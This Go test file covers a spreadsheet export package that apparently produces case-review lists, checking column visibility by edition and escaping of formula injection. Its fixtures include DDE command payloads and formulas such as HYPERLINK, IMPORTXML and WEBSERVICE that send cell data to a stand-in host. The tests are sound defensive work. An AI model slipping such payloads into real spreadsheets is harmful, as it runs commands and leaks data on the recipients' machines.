package sheet

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"anjian/internal/edition"
	"anjian/internal/period"
)

func sample() Sheet {
	inside := []string{"内部", "领导"}
	return Sheet{
		Name:    "核对修正清单",
		Columns: append(Columns(inside, "部门受案号", "问题"), Columns([]string{"内部"}, "受理日期")[0], Columns(inside, "件数")[0], Columns(inside, "天数")[0], Column{Title: "承办人工号"}),
		Rows: [][]Cell{
			{Text("20250000000000123"), Text("=cmd|' /C calc'!A0"), Day(period.DateOf(2025, 3, 1)), Int(3), Decimal(1855, 2), Text("JZ0103")},
			{Text("0012"), Text(""), Day(period.NoDate), Int(12_345_678_901_234_567), Decimal(-5, 1)},
		},
		Notes: []string{"来源：审查逮捕-2025.csv"},
	}
}

func workbookOf(t *testing.T, e edition.Edition) (*excelize.File, []byte) {
	t.Helper()
	var b bytes.Buffer
	if err := WriteXLSX(&b, e, period.DateOf(2025, 12, 31), sample(), sample()); err != nil {
		t.Fatal(err)
	}
	data := bytes.Clone(b.Bytes())
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	return f, data
}

func TestWriteXLSX(t *testing.T) {
	f, data := workbookOf(t, edition.Internal())
	tabs := f.GetSheetList()
	if got, want := strings.Join(tabs, " "), "核对修正清单 2_核对修正清单 说明"; got != want {
		t.Fatalf("tabs %q; want %q", got, want)
	}
	for _, tt := range []struct {
		cell, want string
		kind       excelize.CellType
	}{
		{"A1", "部门受案号", excelize.CellTypeInlineString},
		{"A2", "20250000000000123", excelize.CellTypeInlineString},
		{"A3", "0012", excelize.CellTypeInlineString},
		{"B2", "=cmd|' /C calc'!A0", excelize.CellTypeInlineString},
		{"C2", "2025-03-01", excelize.CellTypeUnset},
		{"C3", "", excelize.CellTypeUnset},
		{"D2", "3", excelize.CellTypeUnset},
		{"D3", "12345678901234567", excelize.CellTypeInlineString},
		{"E2", "18.55", excelize.CellTypeUnset},
		{"E3", "-0.5", excelize.CellTypeUnset},
		{"F1", "", excelize.CellTypeUnset},
	} {
		got, err := f.GetCellValue(tabs[0], tt.cell)
		kind, _ := f.GetCellType(tabs[0], tt.cell)
		if err != nil || got != tt.want || kind != tt.kind && tt.kind == excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
			t.Errorf("%s = %q (type %v), %v; want %q (type %v)", tt.cell, got, kind, err, tt.want, tt.kind)
		}
		if formula, _ := f.GetCellFormula(tabs[0], tt.cell); formula != "" {
			t.Errorf("%s is a formula", tt.cell)
		}
	}
	rows, _ := f.GetRows("说明")
	if text := strings.Join(flat(rows), "|"); !strings.Contains(text, "来源：审查逮捕-2025.csv") || !strings.Contains(text, "数据截至 2025-12-31") || !strings.Contains(text, "内部资料") {
		t.Errorf("notes: %s", text)
	}
	if f.GetActiveSheetIndex() != 0 {
		t.Errorf("opens with tab %d", f.GetActiveSheetIndex())
	}
	if panes, _ := f.GetPanes(tabs[0]); !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes %+v", panes)
	}
	for range 3 {
		if _, again := workbookOf(t, edition.Internal()); !bytes.Equal(data, again) {
			t.Fatal("two writings differ")
		}
	}
}

func flat(rows [][]string) []string {
	var all []string
	for _, r := range rows {
		all = append(all, r...)
	}
	return all
}

func TestColumnsOfOtherEditionsAreLeftOut(t *testing.T) {
	for _, tt := range []struct{ name, want string }{
		{"内部", "部门受案号 问题 受理日期 件数 天数"},
		{"领导", "部门受案号 问题 件数 天数"},
		{"对外提供稿", ""},
		{"", ""},
	} {
		e := edition.Edition{Name: tt.name}
		f, _ := workbookOf(t, e)
		rows, _ := f.GetRows("核对修正清单")
		got := ""
		if len(rows) > 0 {
			got = strings.Join(rows[0], " ")
		}
		if got != tt.want {
			t.Errorf("%s sees %q; want %q", tt.name, got, tt.want)
		}
		var b bytes.Buffer
		if err := WriteCSV(&b, e, sample()); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(b.String(), "JZ0103") || strings.Contains(b.String(), "2025-03-01") != (tt.name == "内部") {
			t.Errorf("%s reads %s", tt.name, b.String())
		}
	}
}

func TestWriteCSV(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, edition.Internal(), sample()); err != nil {
		t.Fatal(err)
	}
	want := "\ufeff部门受案号,问题,受理日期,件数,天数\r\n" +
		"20250000000000123,'=cmd|' /C calc'!A0,2025-03-01,3,18.55\r\n" +
		"0012,,,12345678901234567,-0.5\r\n"
	if got := b.String(); got != want {
		t.Errorf("wrote %q; want %q", got, want)
	}
}

func TestGuard(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"-12.5", "-12.5"},
		{"+3", "+3"},
		{"寻衅滋事", "寻衅滋事"},
		{"", ""},
		{"a=b", "a=b"},
		{"=1+1", "'=1+1"},
		{"+1+1", "'+1+1"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"＝1", "'＝1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠x", "'＠x"},
		{"  =1", "'  =1"},
		{"\u3000=1", "'\u3000=1"},
		{"\u200b=1", "'\u200b=1"},
		{"\t1", "'\t1"},
		{"\r=1", "'\r=1"},
		{"\n1", "'\n1"},
	} {
		if got := guard(tt.in); got != tt.want {
			t.Errorf("guard(%q) = %q; want %q", tt.in, got, tt.want)
		}
	}
}

// formulas are what spreadsheets run, or once ran: every sign that begins one, as it is, behind what people do
// not see, and in front of what they do.
func formulas() []string {
	var list []string
	for _, before := range []string{"", " ", "\u3000", "\u00a0", "\u200b", "\ufeff", "\v\f"} {
		for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"} {
			for _, what := range []string{`cmd|' /C calc'!A0`, `HYPERLINK("https://evil.invalid/"&A1,"点此")`, "1+1"} {
				list = append(list, before+sign+what)
			}
		}
	}
	for _, first := range []string{"\t", "\r", "\n", "\r\n", "\t\t", " \t"} {
		list = append(list, first+"=1+1", first+"@SUM(A1)", first+"－2+3")
	}
	return append(list, "=", "+", "-", "@", "==1", "=-1", "+-1", "-+1", "--1", "-1-1", "-12.5%", "+1e9", "-1,000", "=\"a\"", "@A1", "-(1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"https://evil.invalid/\")", "=IMPORTXML(CONCAT(\"https://evil.invalid/\",A1),\"//a\")")
}

// No text of a download is a formula, wherever it stands: in a cell, a heading, a note, above and below.
func TestNoDownloadHoldsAFormula(t *testing.T) {
	hostile := formulas()
	if len(hostile) < 100 {
		t.Fatalf("%d formulas", len(hostile))
	}
	s := Sheet{Name: hostile[0], Above: hostile[:20], Below: hostile[20:40], Notes: hostile, Columns: Columns([]string{edition.Inside}, "案号", hostile[1], hostile[2])}
	for _, f := range hostile {
		s.Rows = append(s.Rows, []Cell{Text(f), Text("备注"), Text(f)})
	}
	for _, paper := range []bool{false, true} {
		s.Paper = paper
		var b bytes.Buffer
		if err := WriteXLSX(&b, edition.Internal(), period.NoDate, s); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		held := 0
		for _, tab := range f.GetSheetList() {
			rows, err := f.GetRows(tab)
			if err != nil {
				t.Fatal(err)
			}
			for y, row := range rows {
				for x := range row {
					name, _ := excelize.CoordinatesToCellName(x+1, y+1)
					if formula, err := f.GetCellFormula(tab, name); formula != "" || err != nil {
						t.Errorf("%s!%s is the formula %q, %v", tab, name, formula, err)
					}
					held++
				}
			}
		}
		if held < 3*len(hostile) {
			t.Errorf("%d cells were read", held)
		}
		z, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
		if err != nil {
			t.Fatal(err)
		}
		for _, part := range z.File {
			r, err := part.Open()
			if err != nil {
				t.Fatal(err)
			}
			text, err := io.ReadAll(r)
			if err != nil {
				t.Fatal(err)
			}
			if strings.HasPrefix(part.Name, "xl/worksheets/") && bytes.Contains(text, []byte("<f>")) || strings.Contains(part.Name, "externalLink") {
				t.Errorf("%s can run something", part.Name)
			}
		}
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, edition.Internal(), s); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).ReadAll()
	if err != nil || len(records) != len(hostile)+1 {
		t.Fatalf("%d records, %v", len(records), err)
	}
	for y, record := range records {
		for x, cell := range record {
			if begins(cell) {
				t.Errorf("row %d, column %d begins with a formula: %q", y, x, cell)
			}
		}
		// A CSV of CRLF line ends holds no carriage return of its own.
		if y > 0 && strings.ReplaceAll(record[0], "\r", "") != strings.ReplaceAll("'"+hostile[y-1], "\r", "") {
			t.Errorf("%q became %q", hostile[y-1], record[0])
		}
	}
}

// begins tells, in words of its own, whether a spreadsheet may take a text for a formula.
func begins(cell string) bool {
	for _, r := range cell {
		switch r {
		case '=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n':
			return true
		case ' ', '\u3000', '\u00a0', '\u200b', '\ufeff', '\v', '\f':
			continue
		}
		return false
	}
	return false
}

// A number is no formula, and stays one that spreadsheets add up.
func TestNumbersOfDownloadsStayNumbers(t *testing.T) {
	for _, number := range []string{"0", "-1", "+1", "-12.5", "+0.25", "20250000000000123", "-0"} {
		if got := guard(number); got != number {
			t.Errorf("guard(%q) = %q", number, got)
		}
	}
}
